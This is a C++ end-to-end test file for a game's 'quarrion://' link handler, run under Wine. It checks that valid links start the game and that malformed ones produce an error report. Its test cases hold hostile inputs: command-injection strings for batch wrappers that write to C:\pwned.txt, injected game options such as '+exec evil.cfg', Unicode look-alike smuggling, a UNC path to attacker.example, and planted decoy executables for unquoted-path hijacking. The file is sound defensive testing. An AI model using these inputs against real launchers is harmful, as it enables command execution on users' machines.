// Runs the real quarrion_shell.exe in the private Wine prefix, one case per link and registry
// state, and checks what the player would see: the game's command line or the report.

#include "case_name.hpp"
#include "private_prefix.hpp"
#include "shell_run.hpp"

#include <windows.h>
#include <objbase.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <optional>
#include <stdexcept>
#include <string>
#include <variant>
#include <vector>

namespace {

using named_cases::PrintTo;

const std::wstring gameFolder = L"C:\\Games\\Quarrion";
const std::wstring game = gameFolder + L"\\quarrion.exe";
const std::wstring spacedFolder = L"C:\\Program Files\\Dunmarch Games\\Quarrion";
const std::wstring spacedGame = spacedFolder + L"\\quarrion.exe";
// A game in a folder made in C:\, where every local user may create files beside its path.
const std::wstring driveFolderGame = L"C:\\Games\\Dunmarch Games\\Quarrion Live\\bin\\quarrion.exe";
// Wrapper scripts in the game's place, which process creation hands to cmd.exe.
const std::wstring batchFolder = L"C:\\Games\\Batch";
const std::wstring batchGame = batchFolder + L"\\start.bat";
const std::wstring spacedBatchFolder = L"C:\\Program Files\\Dunmarch Games\\Batch";
const std::wstring spacedBatchGame = spacedBatchFolder + L"\\start.bat";
// What a command smuggled in by a link writes.
const std::wstring smuggledFile = L"C:\\pwned.txt";
const std::wstring shellFolder = L"C:\\windows"; // as a browser would start it: anywhere
const std::wstring firstLine = L"There was an issue starting quarrion, either it isn't installed, "
                               L"or you clicked on an invalid link";

struct RegistryValue {
    DWORD type;
    std::vector<BYTE> data;
};

RegistryValue Text(const std::wstring& text, DWORD type = REG_SZ) {
    const auto* bytes = reinterpret_cast<const BYTE*>(text.c_str());
    return {type, {bytes, bytes + (text.size() + 1) * sizeof(wchar_t)}};
}

const RegistryValue keyWithoutValue{REG_NONE, {}};

struct Started {
    std::wstring commandLine;
    std::wstring folder;
    std::wstring program = folder + L"\\quarrion.exe"; // the file that must run, nothing planted
    bool sameInCodePage = true;      // a game reading the ANSI line gets the very same text
    int showCommand = SW_SHOWNORMAL; // what the game is given; cmd.exe passes none on
};

struct Reported {
    std::wstring server;
    std::wstring password;
};

struct LaunchCase {
    const char* name;
    std::optional<RegistryValue> installPath; // none: the game's key is absent
    std::optional<std::wstring> argumentText; // none: nothing after the program's name
    std::variant<Started, Reported> outcome;
    std::vector<std::wstring> decoys = {}; // programs planted where a search might find them
};

// The programs a search for an unquoted path with blanks would try before the whole path: each
// blank-cut prefix with ".exe", "C:\Program.exe" for "C:\Program Files\...".
std::vector<std::wstring> BlankCutDecoys(const std::wstring& path) {
    std::vector<std::wstring> decoys;
    for (auto blank = path.find(L' '); blank != std::wstring::npos;
         blank = path.find(L' ', blank + 1)) {
        decoys.push_back(path.substr(0, blank) + L".exe");
    }
    return decoys;
}

// Link text that makes the launcher's own command line `length` units long, as RunShell builds
// it: the quoted program, one blank, the link.
std::wstring LinkForShellLineOf(std::size_t length) {
    const std::wstring start = L"quarrion://h/";
    const std::size_t used =
        ProgramFolder().size() + std::wstring(L"\"quarrion_shell.exe\" ").size() + start.size();
    return start + std::wstring(length - used, L'p');
}

class Launch : public testing::TestWithParam<LaunchCase> {
  protected:
    static void SetUpTestSuite() {
        InstallStandInGame(game);
        InstallStandInGame(spacedGame);
        InstallStandInGame(driveFolderGame);
        InstallBatchStandIn(batchGame);
        InstallBatchStandIn(batchFolder + L"\\START.CMD");
        InstallBatchStandIn(spacedBatchGame);
    }
    void SetUp() override {
        for (const auto& decoy : GetParam().decoys) {
            InstallStandInGame(decoy);
        }
        RemoveMachineKey(gameKey);
        const auto& value = GetParam().installPath;
        if (value && value->type == REG_NONE) {
            SetMachineText(gameKey, L"Version", L"unrelated");
        } else if (value) {
            SetMachineValue(gameKey, L"InstallPath", value->type, value->data.data(),
                            static_cast<DWORD>(value->data.size()));
        }
    }
    void TearDown() override {
        RemoveMachineKey(gameKey);
        ::DeleteFileW(smuggledFile.c_str());
        for (const auto& decoy : GetParam().decoys) {
            ::DeleteFileW(decoy.c_str());
        }
    }
};

TEST_P(Launch, StartsTheGameOrReports) {
    const LaunchCase& c = GetParam();
    const ShellRun run = RunShell(c.argumentText, shellFolder);
    EXPECT_FALSE(std::filesystem::exists(smuggledFile)) << "a command of the link's ran";

    if (const auto* started = std::get_if<Started>(&c.outcome)) {
        EXPECT_EQ(run.exitCode, 0u);
        EXPECT_TRUE(run.visibleWindows.empty()) << "a successful run shows nothing";
        ASSERT_TRUE(run.game) << "the game was not started";
        EXPECT_TRUE(run.game->commandLine == started->commandLine)
            << testing::PrintToString(run.game->commandLine);
        EXPECT_EQ(run.game->folder, started->folder);
        EXPECT_EQ(run.game->program, started->program);
        EXPECT_EQ(run.game->argv0, started->program);
        if (started->sameInCodePage) {
            EXPECT_TRUE(run.game->ansiCommandLine == run.game->commandLine)
                << testing::PrintToString(run.game->ansiCommandLine);
        }
        EXPECT_EQ(run.game->showCommand, started->showCommand);
        return;
    }
    const auto& reported = std::get<Reported>(c.outcome);
    EXPECT_EQ(run.exitCode, 1u);
    ASSERT_TRUE(run.box) << "no report was shown";
    EXPECT_EQ(run.box->caption, L"Oopsie...");
    EXPECT_EQ(run.box->text,
              firstLine + L"\r\nServer: " + reported.server + L"\r\nPass: " + reported.password);
    EXPECT_EQ(run.box->buttons, std::vector<int>{IDOK});
    EXPECT_EQ(run.visibleWindows, std::vector<std::wstring>{L"#32770"});
    EXPECT_FALSE(run.game) << "started after all: " << testing::PrintToString(run.game->program);
}

const DWORD number = 42;
const BYTE binary[] = {0x43, 0x00, 0x3A, 0x00};
const std::wstring multi = game + std::wstring(1, L'\0') + game + std::wstring(1, L'\0');

INSTANTIATE_TEST_SUITE_P(
    Links, Launch,
    testing::Values(
        LaunchCase{"TwoFieldLink", Text(game), L"quarrion://127.0.0.1:27960/secret",
                   Started{game + L" +connect 127.0.0.1:27960 +pass secret", gameFolder}},
        LaunchCase{"OneFieldLink", Text(game), L"quarrion://play.example.net:27960",
                   Started{game + L" +connect play.example.net:27960", gameFolder}},
        LaunchCase{"EmptyPasswordField", Text(game), L"quarrion://h/",
                   Started{game + L" +connect h +pass ", gameFolder}},
        LaunchCase{"PercentEscapesPass", Text(game), L"quarrion://h%20x/p%3Bw",
                   Started{game + L" +connect h%20x +pass p%3Bw", gameFolder}},
        LaunchCase{"BlanksAfterTheProgramName", Text(game), L"   quarrion://h",
                   Started{game + L" +connect h", gameFolder}},
        LaunchCase{"QuotedPathWithBlanks", Text(L"\"" + spacedGame + L"\""), L"quarrion://h/p",
                   Started{L"\"" + spacedGame + L"\" +connect h +pass p", spacedFolder},
                   BlankCutDecoys(spacedGame)},
        // Planted programs at "C:\Program.exe" and "C:\Program Files\Dunmarch.exe" never run
        // in the game's place, and the game gets its own path whole, quoted.
        LaunchCase{"UnquotedPathWithBlanks", Text(spacedGame), L"quarrion://h/p",
                   Started{L"\"" + spacedGame + L"\" +connect h +pass p", spacedFolder, spacedGame},
                   BlankCutDecoys(spacedGame)},
        LaunchCase{"UnquotedPathInAFolderOfTheDrive", Text(driveFolderGame), L"quarrion://h/p",
                   Started{L"\"" + driveFolderGame + L"\" +connect h +pass p",
                           driveFolderGame.substr(0, driveFolderGame.rfind(L'\\')),
                           driveFolderGame},
                   BlankCutDecoys(driveFolderGame)},
        // With the game missing, Windows' search would go on to the planted programs.
        LaunchCase{
            "GameMissingAmongDecoys",
            Text(L"C:\\Program Files\\Dunmarch Games\\Quarrion Beta\\quarrion.exe"),
            L"quarrion://h/p", Reported{L"h", L"p"},
            BlankCutDecoys(L"C:\\Program Files\\Dunmarch Games\\Quarrion Beta\\quarrion.exe")},
        LaunchCase{"GameMissingInAFolderOfTheDrive",
                   Text(L"C:\\Games\\Dunmarch Games\\Quarrion Beta\\bin\\quarrion.exe"),
                   L"quarrion://h", Reported{L"h", L""},
                   BlankCutDecoys(L"C:\\Games\\Dunmarch Games\\Quarrion Beta\\bin\\quarrion.exe")},
        // A relative path would be searched for, first in the browser's own folder.
        LaunchCase{"RelativePathIsNotSearchedFor",
                   Text(L"quarrion.exe"),
                   L"quarrion://h/p",
                   Reported{L"h", L"p"},
                   {shellFolder + L"\\quarrion.exe"}},
        LaunchCase{"PathFromTheDrivesRootIsNotSearchedFor",
                   Text(L"\\Games\\Quarrion\\quarrion.exe"), L"quarrion://h", Reported{L"h", L""}},
        // Wine cuts a longer line than Windows starts to 32,767 units with the NUL, so the
        // launcher cannot tell a line that fills the limit from a cut one and refuses it.
        LaunchCase{"LauncherLineBelowTheLimit", Text(game), LinkForShellLineOf(32'765),
                   Started{game + L" +connect h +pass " + LinkForShellLineOf(32'765).substr(13),
                           gameFolder}},
        LaunchCase{"LauncherLineFillsTheLimit", Text(game), LinkForShellLineOf(32'766),
                   Reported{L"h", LinkForShellLineOf(32'766).substr(13)}},
        LaunchCase{
            "NonAsciiAndAstralUnits", Text(game),
            L"quarrion://s\x00E9rv\x4E2D\xD83C\xDFAE/p\x00E4ss\xD83D\xDE00",
            Started{game + L" +connect s\x00E9rv\x4E2D\xD83C\xDFAE +pass p\x00E4ss\xD83D\xDE00",
                    gameFolder, game, false}},
        // Latin-1 letters are in the code page: an ANSI game reads them exactly.
        LaunchCase{"Latin1Password", Text(game), L"quarrion://h/p\x00E4ss\x00F6\x00DF\x00E9",
                   Started{game + L" +connect h +pass p\x00E4ss\x00F6\x00DF\x00E9", gameFolder}},
        // No interpreter reads an .exe game's line: these reach it exactly.
        LaunchCase{"ExeGameGetsWhatAnInterpreterWouldActOn", Text(game),
                   L"quarrion://h(1)/a&b%USERNAME%!x!^c,d=e|f<g>",
                   Started{game + L" +connect h(1) +pass a&b%USERNAME%!x!^c,d=e|f<g>", gameFolder}},
        LaunchCase{
            "BatchGame", Text(batchGame), L"quarrion://127.0.0.1:27960/secret",
            Started{L"\"" + batchFolder + L"\\quarrion.exe\" +connect 127.0.0.1:27960 +pass secret",
                    batchFolder, batchFolder + L"\\quarrion.exe", true, -1}},
        LaunchCase{"BatchGameCommandInTheServer", Text(batchGame),
                   L"quarrion://srv&type,nul>C:\\pwned.txt/pw",
                   Reported{L"srv&type,nul>C:\\pwned.txt", L"pw"}},
        LaunchCase{"BatchGameVariableInThePassword", Text(batchGame),
                   L"quarrion://attacker.example/%USERNAME%",
                   Reported{L"attacker.example", L"%USERNAME%"}},
        LaunchCase{"QuotedBatchGamePipe", Text(L"\"" + spacedBatchGame + L"\""),
                   L"quarrion://h/p|echo>C:\\pwned.txt", Reported{L"h", L"p|echo>C:\\pwned.txt"}},
        LaunchCase{"UnquotedBatchGameCommandInThePassword", Text(spacedBatchGame),
                   L"quarrion://h/p&echo>C:\\pwned.txt", Reported{L"h", L"p&echo>C:\\pwned.txt"}},
        LaunchCase{"CommandScriptInCapitalsWithTrailingDot", Text(batchFolder + L"\\START.CMD."),
                   L"quarrion://h>C:\\pwned.txt", Reported{L"h>C:\\pwned.txt", L""}},
        // Best fit turns these into "+", ";", a blank and a quote for a game reading code page
        // 1252.
        LaunchCase{"LookAlikeOptionInThePassword", Text(game),
                   L"quarrion://1.2.3.4/pw\xFF0B"
                   L"exec\x3000"
                   L"evil.cfg",
                   Reported{L"1.2.3.4", L"pw\xFF0B"
                                        L"exec\x3000"
                                        L"evil.cfg"}},
        LaunchCase{"LookAlikeSemicolonInTheServer", Text(game), L"quarrion://h\x037Equit/p",
                   Reported{L"h\x037Equit", L"p"}},
        LaunchCase{"LookAlikeQuoteInTheServer", Text(game), L"quarrion://h\xFF02\x2002x/p",
                   Reported{L"h\xFF02\x2002x", L"p"}},
        LaunchCase{"ServerLikeAnOption", Text(game), L"quarrion://-dedicated/pw",
                   Reported{L"-dedicated", L"pw"}},
        LaunchCase{"PasswordLikeAnOption", Text(game), L"quarrion://h/-console",
                   Reported{L"h", L"-console"}},
        LaunchCase{"PasswordLikeAResponseFile", Text(game), L"quarrion://h/@C:\\x.txt",
                   Reported{L"h", L"@C:\\x.txt"}},
        // RegRead hands back an expandable string expanded, and that is what the game gets.
        LaunchCase{"ValueExpandable",
                   Text(L"%SystemDrive%\\Games\\Quarrion\\quarrion.exe", REG_EXPAND_SZ),
                   L"quarrion://h/p", Started{game + L" +connect h +pass p", gameFolder}},
        // A plain string comes back as it is, and the program expands nothing itself.
        LaunchCase{"VariableInPlainStringStaysUnexpanded",
                   Text(L"%SystemDrive%\\Games\\Quarrion\\quarrion.exe"), L"quarrion://h/p",
                   Reported{L"h", L"p"}},
        LaunchCase{"NotInstalled", std::nullopt, L"quarrion://h/p", Reported{}},
        LaunchCase{"ValueMissing", keyWithoutValue, L"quarrion://h/p", Reported{}},
        LaunchCase{"ValueEmptyLinkNotRead", Text(L""), L"quarrion://h/p", Reported{}},
        LaunchCase{"ValueBinary", RegistryValue{REG_BINARY, {binary, binary + sizeof binary}},
                   L"quarrion://h/p", Reported{}},
        LaunchCase{"ValueMultiString", Text(multi, REG_MULTI_SZ), L"quarrion://h/p", Reported{}},
        LaunchCase{"NoArgumentText", Text(game), std::nullopt, Reported{}},
        LaunchCase{"OnlyBlanks", Text(game), L"   ", Reported{}},
        LaunchCase{"SchemeOnly", Text(game), L"quarrion://", Reported{}},
        LaunchCase{"NoProgramTwoFields", Text(L"C:\\Games\\Nowhere\\quarrion.exe"),
                   L"quarrion://h/p", Reported{L"h", L"p"}},
        LaunchCase{"NoProgramOneField", Text(L"C:\\Games\\Nowhere\\quarrion.exe"), L"quarrion://h",
                   Reported{L"h", L""}},
        LaunchCase{"ValueNumberNamesNoProgram",
                   RegistryValue{REG_DWORD,
                                 {reinterpret_cast<const BYTE*>(&number),
                                  reinterpret_cast<const BYTE*>(&number) + sizeof number}},
                   L"quarrion://h/p", Reported{L"h", L"p"}},
        LaunchCase{"InjectedOption", Text(game), L"quarrion://x +exec evil.cfg",
                   Reported{L"x +exec evil.cfg", L""}},
        LaunchCase{"InjectedCommand", Text(game), L"quarrion://h/p;quit",
                   Reported{L"h", L"p;quit"}},
        LaunchCase{"QuotedLinkIsRefused", Text(game), L"\"quarrion://h/p\"",
                   Reported{L"\"h", L"p\""}},
        LaunchCase{"EmptyServerWithAPassword", Text(game),
                   L"quarrion:///\\\\attacker.example\\share\\demo.dem",
                   Reported{L"", L"\\\\attacker.example\\share\\demo.dem"}},
        LaunchCase{"EmptyServerAlone", Text(game), L"quarrion:///", Reported{L"", L""}}),
    CaseName<LaunchCase>);

// Runs only in a copy of the prefix without the class: tests/wine/without-scripting-shell.sh.
TEST(WithoutScriptingShell, ReportsWithEmptyFields) {
    CLSID shellClass{};
    ASSERT_FALSE(SUCCEEDED(::CLSIDFromProgID(L"WScript.Shell", &shellClass)))
        << "WScript.Shell is registered in this prefix";
    InstallStandInGame(game);
    SetInstallPath(game);
    const ShellRun run = RunShell(L"quarrion://h/p", shellFolder);
    RemoveMachineKey(gameKey);
    EXPECT_EQ(run.exitCode, 1u);
    ASSERT_TRUE(run.box);
    EXPECT_EQ(run.box->text, firstLine + L"\r\nServer: \r\nPass: ");
    EXPECT_FALSE(run.game);
}

// A 32-bit game's installer writes its path where 32-bit programs see HKLM\Software, which is
// where the program reads it: every row above sets it there. On 64-bit Windows, a value only in
// the native view is not found.
TEST(RegistryView, AValueOnlyIn64BitViewIsNotTheGames) {
    if (!UnderWow64()) {
        GTEST_SKIP() << "one registry view on 32-bit Windows";
    }
    InstallStandInGame(game);
    RemoveMachineKey(gameKey);
    SetText(Hive::NativeMachine, gameKey, L"InstallPath", game);
    const ShellRun run = RunShell(L"quarrion://h/p", shellFolder);
    RemoveKey(Hive::NativeMachine, gameKey);
    EXPECT_EQ(run.exitCode, 1u);
    ASSERT_TRUE(run.box);
    EXPECT_EQ(run.box->text, firstLine + L"\r\nServer: \r\nPass: ");
    EXPECT_FALSE(run.game);
}

// Runs only in the Cyrillic code page (LC_ALL=ru_RU.UTF-8, tests/e2e/CMakeLists.txt): its letters
// reach a game that reads the ANSI line exactly, and best fit still cannot smuggle an option in.
TEST(InCyrillicCodePage, ReadsLettersExactlyAndRefusesLookAlikes) {
    ASSERT_EQ(::GetACP(), 1251u) << "not the Cyrillic code page";
    const std::wstring password = L"\x043F\x0430\x0440\x043E\x043B\x044C";
    InstallStandInGame(game);
    SetInstallPath(game);
    const ShellRun cyrillic = RunShell(L"quarrion://h/" + password, shellFolder);
    const ShellRun lookAlike = RunShell(L"quarrion://h/p\xFF0B"
                                        L"exec\x3000x",
                                        shellFolder);
    RemoveMachineKey(gameKey);
    ASSERT_TRUE(cyrillic.game);
    EXPECT_TRUE(cyrillic.game->ansiCommandLine == game + L" +connect h +pass " + password)
        << testing::PrintToString(cyrillic.game->ansiCommandLine);
    EXPECT_TRUE(lookAlike.box);
    EXPECT_FALSE(lookAlike.game);
}

// The longest link that reaches the program (its own command line at the platform's limit of
// 32,767 units with the ending NUL) makes the game's command line longer than that when the game
// lives in a deep folder. Windows would refuse to start it, Wine would cut it: the program refuses
// it itself, so the report shows the whole server and the game never gets a line cut short.
class LongLink : public testing::Test {
  protected:
    void SetUp() override {
        InstallStandInGame(deepGame);
        SetInstallPath(deepGame);
    }
    void TearDown() override { RemoveMachineKey(gameKey); }

    // A server that makes the game's command line `over` units longer than the limit.
    static std::wstring Server(long over) {
        const auto length = 32'766 + over - static_cast<long>((deepGame + L" +connect ").size());
        std::wstring server(static_cast<std::size_t>(length), L'a');
        return server;
    }

    // Deep enough that the game's line outgrows the launcher's own, which must stay below the
    // limit wherever the tests are built (the launcher refuses a line that fills it).
    static inline const std::wstring deepGame =
        L"C:\\Games\\" +
        std::wstring(std::max<std::size_t>(150, ProgramFolder().size() + 40), L'q') +
        L"\\quarrion.exe";
};

TEST_F(LongLink, AtTheLimitReachesTheGameWhole) {
    const std::wstring server = Server(0);
    const ShellRun run = RunShell(L"quarrion://" + server, shellFolder);
    EXPECT_EQ(run.exitCode, 0u);
    ASSERT_TRUE(run.game);
    EXPECT_EQ(run.game->commandLine.size(), 32'766u);
    EXPECT_TRUE(run.game->commandLine == deepGame + L" +connect " + server);
}

TEST_F(LongLink, OverTheLimitIsReportedWhole) {
    const std::wstring server = Server(1);
    const ShellRun run = RunShell(L"quarrion://" + server, shellFolder);
    EXPECT_EQ(run.exitCode, 1u);
    EXPECT_FALSE(run.game) << "the game got a line of " << run.game->commandLine.size();
    ASSERT_TRUE(run.box);
    EXPECT_TRUE(run.box->text == firstLine + L"\r\nServer: " + server + L"\r\nPass: ");
}

TEST(PrivatePrefix, GuardRefusesAnyOtherRegistry) {
    wchar_t ours[4096] = {};
    ASSERT_GT(::GetEnvironmentVariableW(L"WINEPREFIX", ours, 4096), 0u);
    ::SetEnvironmentVariableW(L"WINEPREFIX", L"/home/player/.wine");
    EXPECT_THROW(RequirePrivatePrefix(), std::runtime_error);
    EXPECT_THROW(SetInstallPath(L"C:\\x.exe"), std::runtime_error);
    ::SetEnvironmentVariableW(L"WINEPREFIX", ours);
    EXPECT_NO_THROW(RequirePrivatePrefix());
}

} // namespace
